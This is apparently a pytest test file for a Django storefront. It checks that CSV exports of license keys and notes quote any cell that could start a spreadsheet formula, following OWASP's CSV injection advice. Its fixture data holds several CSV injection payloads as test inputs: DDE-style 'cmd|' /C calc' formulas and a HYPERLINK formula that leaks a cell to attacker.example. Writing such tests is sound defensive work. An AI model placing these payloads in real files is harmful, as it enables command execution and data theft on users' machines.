"""CSV injection (issue 10): no cell of a CSV the shop hands a merchant starts a formula in their spreadsheet.

Per OWASP's CSV Injection advice, a cell whose first character is = + - @ tab or carriage return, or whose first
character after leading whitespace is one of those, is written with a single quote in front, which spreadsheets
read as "this is text". One helper (storefront.csv_export) does it, and every CSV writer of the shop uses it.

Decision on license keys: a key that starts with one of those characters (say "-ABC-123" or "=1+2") is prefixed
too. The export is a spreadsheet file, and a spreadsheet would otherwise evaluate or mangle such a key ("-ABC-123"
shows as #NAME?, "-123" loses its text form), so the quoted cell is what the merchant needs to see the key as it
is. Whoever feeds the file to another program drops one leading quote from those cells; cells that start with
anything else (every key the shop's own formats make) are written exactly as they are.
"""

import csv
import io
import pathlib
import re

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from fulfillment.models import KeyStatus, LicenseKey
from tests.factories import ProductFactory

pytestmark = pytest.mark.django_db

ROOT = pathlib.Path(__file__).resolve().parents[2]
APPS = ("catalog", "fulfillment", "orders", "payments", "riskengine", "storefront")

# What a merchant's key file may hold in its note column (and, in the last lines, in its key column).
IMPORTED = [
    ("KEY-A", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("KEY-B", "+SUM(1+1)", "'+SUM(1+1)"),
    ("KEY-C", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("KEY-D", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    (
        "KEY-E",
        '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
        '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    ),
    ("KEY-F", "-", "'-"),
    ("KEY-G", "plain note", "plain note"),
    ("KEY-H", "a note, with = and + inside", "a note, with = and + inside"),
    ("KEY-I", "'already quoted", "'already quoted"),
    ("KEY-J", "", ""),
    ("=1+2", "a key that is a formula", None),
    ("-ABC-123", "a key that starts with a dash", None),
]
EXPECTED_KEY = {"=1+2": "'=1+2", "-ABC-123": "'-ABC-123"}


def key_file_of(rows) -> SimpleUploadedFile:
    buffer = io.StringIO()
    writer = csv.writer(buffer)  # the merchant's own spreadsheet wrote this file, quoting as spreadsheets do
    for key, note, _ in rows:
        writer.writerow([key, note])
    return SimpleUploadedFile("keys.csv", buffer.getvalue().encode())


@pytest.fixture
def merchant(client):
    user = get_user_model().objects.create_superuser("csvboss", "csv@example.com", "pw-csv-1")
    client.force_login(user)
    return client


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}},
    }


def test_imported_notes_and_keys_cannot_start_a_formula_in_the_key_export(merchant, django_capture_on_commit_callbacks):
    # Given keys imported through the merchant's import page, from a CSV whose notes (and two keys) start formulas
    product = ProductFactory(slug="formulas")
    with django_capture_on_commit_callbacks(execute=True):
        imported = merchant.post(
            reverse("admin:catalog_product_import_keys", args=[product.pk]),
            {"file": key_file_of(IMPORTED), "text": "", "delimiter": "comma"},
        )
    assert imported.status_code == 302
    stored = {key.reveal(): key.note for key in LicenseKey.objects.filter(product=product)}
    assert stored == {key: note for key, note, _ in IMPORTED}  # the import keeps them as given
    # And two notes the import itself would trim, as an older import left them: a leading tab and a line break
    LicenseKey.objects.filter(product=product, note="plain note").update(note="\t=1+1")  # KEY-G
    LicenseKey.objects.filter(product=product, note="").update(note="\r\n  =2+2")  # KEY-J

    # When the merchant exports the unsold keys
    url = reverse("admin:catalog_product_export_keys", args=[product.pk])
    with django_capture_on_commit_callbacks(execute=True):  # a staff job prepares the file, then it is downloaded
        started = merchant.post(url)
    response = merchant.post(merchant.get(started["Location"]).context["download_url"])
    body = response.content.decode()
    rows = list(csv.reader(io.StringIO(body)))

    # Then every cell that would start a formula is quoted, and every other cell is exactly as stored
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert rows[0] == ["key", "note"]
    exported = {key: note for key, note in rows[1:]}
    expected = {EXPECTED_KEY.get(key, key): (safe if safe is not None else note) for key, note, safe in IMPORTED}
    expected["KEY-G"] = "'\t=1+1"
    expected["KEY-J"] = "'\r\n  =2+2"
    assert exported == expected
    assert not [cell for row in rows for cell in row if re.match(r"\s*[=+\-@]", cell)]
    assert LicenseKey.objects.filter(product=product, status=KeyStatus.AVAILABLE).count() == len(IMPORTED)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tplain", "'\tplain"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),  # a no-break space is whitespace too
        ("KEY-123", "KEY-123"),
        ("a=b", "a=b"),
        ("", ""),
        ("   ", "   "),
        ("'=1", "'=1"),
        (None, ""),
        (42, "42"),
        (-42, "'-42"),
    ],
)
def test_the_shared_helper_quotes_exactly_the_cells_that_could_start_a_formula(value, written):
    from storefront.csv_export import spreadsheet_safe

    assert spreadsheet_safe(value) == written


def test_the_helpers_writer_quotes_every_cell_it_writes():
    from storefront.csv_export import csv_writer

    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=a", "b", "-c"])
    writer.writerows([["@d", "+e"], ["f"]])

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=a", "b", "'-c"], ["'@d", "'+e"], ["f"]]


def test_every_csv_writer_of_the_shop_goes_through_the_one_helper():
    # A CSV written any other way (csv.writer, csv.DictWriter) would skip the quoting: only the helper may call them
    helper = ROOT / "storefront" / "csv_export.py"
    writers = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for app in APPS
        for path in sorted((ROOT / app).rglob("*.py"))
        if path != helper and "migrations" not in path.parts
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if writers.search(line)
    ]

    assert offenders == []
    assert writers.search(helper.read_text())
